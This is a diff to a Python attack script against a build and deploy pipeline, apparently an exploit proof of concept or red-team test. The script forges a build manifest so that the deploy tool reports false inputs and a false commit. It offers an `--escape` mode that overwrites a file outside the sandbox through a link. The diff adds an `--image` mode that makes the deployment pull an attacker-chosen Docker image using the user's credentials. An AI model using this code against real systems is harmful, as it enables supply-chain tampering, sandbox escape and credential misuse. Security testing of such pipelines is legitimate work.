@@ -1,6 +1,7 @@
 """The attack of a build command: writes a build of its own, and prints in the name of the deploy tool that it was built
 from other inputs. Arguments: the digest of these inputs, and a commit to name instead of the own one. Or `--escape` and
-a file outside of the sandbox, which the build overwrites through a link where the deployment unpacks it."""
+a file outside of the sandbox, which the build overwrites through a link where the deployment unpacks it. Or `--image` and
+an image of Docker, which the deployment would pull with the user's credentials."""
 
 import ctypes
 import hashlib
@@ -15,6 +16,7 @@ PIDFD_OPEN, PIDFD_GETFD = 434, 438
 
 inputs, *named = sys.argv[1:]
 outside = named.pop() if inputs == "--escape" else None
+image = named.pop() if inputs == "--image" else None
 
 
 def command_line(process):
@@ -66,6 +68,9 @@ build = {
     "static": [store("app.js", b"evil")],
     "wheels": [],
 }
+if image is not None:
+    paths = {"directory": "/opt/app", "staticDirectory": "/opt/app/static"}
+    build.update(platform="docker", application=[], static=[], image={"name": image, "proxy": image, **paths})
 text = json.dumps(build).encode()
 with open(f"{directory}/build.json", "wb") as file:
     file.write(text)
